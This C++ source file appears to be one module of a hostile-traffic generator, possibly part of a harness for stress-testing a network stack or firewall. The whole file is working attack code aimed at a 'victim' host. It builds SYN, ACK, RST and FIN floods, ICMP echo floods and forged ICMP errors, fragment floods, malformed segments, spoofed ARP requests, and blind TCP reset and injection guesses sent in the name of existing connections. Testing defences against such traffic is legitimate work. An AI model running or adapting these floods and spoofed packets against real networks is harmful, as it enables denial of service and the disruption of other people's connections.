// Attacks that keep nothing: each frame is one of many, and no answer is waited for.
#include <algorithm>

#include "attack.hpp"

namespace salut::hostile {
namespace {

class Flood final : public Attack {
 public:
  using Attack::Attack;

  void act(Instant) override {
    switch (orders.kind) {
      case Kind::syn_on_link:
        return segment(victim(), near(any32()), syn);
      case Kind::syn_off_link:
        return segment(victim(), far(any32()), syn);
      case Kind::syn_of_honest:
        return syn_of_honest();
      case Kind::blind:
        return guess();
      case Kind::ack_flood:
        return segment(victim(), anywhere(), ack);
      case Kind::rst_flood:
        return segment(victim(), anywhere(), one_in(2) ? rst : rst | ack);
      case Kind::fin_flood:
        return segment(victim(), anywhere(), one_in(4) ? fin : fin | ack);
      case Kind::icmp_flood: {
        const Victim& to = victim();
        send(writer.echo({site.mac, to.mac}, near(any32()), to.address(orders.ip6), below(1'400)));
        return;
      }
      case Kind::icmp_errors:
        return icmp_error();
      case Kind::fragments: {
        const Victim& to = victim();
        const auto offset = static_cast<std::uint16_t>(8 * below(8'000));
        send(writer.fragment({site.mac, to.mac}, near(any32()), to.address(orders.ip6), any32(),
                             offset, !one_in(4), 8 * (1 + below(100))));
        return;
      }
      case Kind::malformed:
        return malformed();
      case Kind::who_has: {
        const IpAddress& target = victim().address(orders.ip6);
        Mac mac = site.mac;
        if (one_in(2)) mac.bytes[5] = static_cast<std::uint8_t>(below(256));
        mac.bytes[1] = 0x66;
        send(writer.who_has(mac, near(any32()), target));
        return;
      }
      default:
        return;
    }
  }

 private:
  IpAddress anywhere() { return one_in(2) ? near(any32()) : far(any32()); }

  bool is_far(const IpAddress& address) const {
    const IpAddress& base = orders.ip6 ? site.far6 : site.far4;
    return (address.low() ^ base.low()) >> 16 == 0 && address.high() == base.high();
  }

  void segment(const Victim& to, const IpAddress& from, unsigned flags) {
    const Mac& mac = is_far(from) ? site.router : site.mac;
    send(writer.tcp({mac, to.mac}, {.from = {from, any_port()},
                                    .to = {to.address(orders.ip6), to.port},
                                    .seq = any32(),
                                    .ack = (flags & ack) != 0 ? any32() : 0,
                                    .flags = static_cast<std::uint8_t>(flags),
                                    .options = one_in(2)}));
  }

  // Those of the family, or none.
  const Flow* flow() {
    if (site.flows.empty()) return nullptr;
    const Flow& one = site.flows[below(site.flows.size())];
    return one.peer.address.is_v6() == orders.ip6 ? &one : nullptr;
  }

  // From a port that is not, or not yet, one of the host's connections; its own MAC or the host's.
  void syn_of_honest() {
    const Flow* one = flow();
    if (one == nullptr) return segment(victim(), near(any32()), syn);
    Side peer = one->peer;
    peer.port = static_cast<std::uint16_t>(peer.port + 1 + below(2'000));
    if (peer.port == 0) ++peer.port;
    send(writer.tcp({one_in(2) ? site.mac : one->peer_mac, one->mac},
                    {.from = peer, .to = one->victim, .seq = any32(), .flags = syn}));
  }

  // In the name of either end.
  void guess() {
    const Flow* one = flow();
    if (one == nullptr) return segment(victim(), anywhere(), ack);
    static constexpr std::array<unsigned, 8> flags = {rst,       syn,       fin | ack, ack,
                                                      rst | ack, syn | ack, ack,       psh | ack};
    const unsigned chosen = flags[below(flags.size())];
    const bool data = chosen == (psh | ack);
    send(writer.tcp({site.mac, one->mac}, {.from = one->peer,
                                           .to = one->victim,
                                           .seq = any32(),
                                           .ack = any32(),
                                           .wnd = static_cast<std::uint16_t>(any32()),
                                           .flags = static_cast<std::uint8_t>(chosen),
                                           .payload = filler(data ? 1 + below(1'000) : 0)}));
  }

  void icmp_error() {
    const Flow* one = flow();
    const Victim& to = victim();
    const Tcp random_one{.from = {to.address(orders.ip6), to.port},
                         .to = {near(any32()), any_port()},
                         .seq = any32(),
                         .flags = ack};
    const Tcp honest =
        one == nullptr ? random_one
                       : Tcp{.from = one->victim, .to = one->peer, .seq = any32(), .flags = ack};
    const bool big = one_in(3);
    const auto mtu = static_cast<std::uint16_t>(big ? below(1'500) : 0);
    const auto code = static_cast<std::uint8_t>(big ? (orders.ip6 ? 0 : 4) : below(16));
    const auto type = static_cast<std::uint8_t>(orders.ip6 ? (big ? 2 : 1 + below(4))
                                                : big      ? 3
                                                           : 3 + 8 * below(2));
    send(writer.icmp_error({site.mac, one == nullptr ? to.mac : one->mac}, near(any32()), type,
                           code, mtu, honest));
  }

  // A segment that would mean something, with a byte changed, or without its end.
  void malformed() {
    const Victim& to = victim();
    const auto frame = writer.tcp({site.mac, to.mac}, {.from = {near(any32()), any_port()},
                                                       .to = {to.address(orders.ip6), to.port},
                                                       .seq = any32(),
                                                       .flags = ack,
                                                       .options = one_in(2),
                                                       .payload = filler(below(40))});
    if (one_in(2)) {
      // Not of the addresses: it would come from a station that is not the attacker's.
      const std::size_t at = one_in(2) ? 14 + below(8) : frame.size() - 1 - below(20);
      frame[at] ^= static_cast<std::byte>(1u + below(255));
      send(frame);
    } else {
      send(frame.first(14 + below(frame.size() - 14)));
    }
  }
};

}  // namespace

std::unique_ptr<Attack> make_flood(const Attack::Means& means, const Orders& orders) {
  return std::make_unique<Flood>(means, orders);
}

}  // namespace salut::hostile
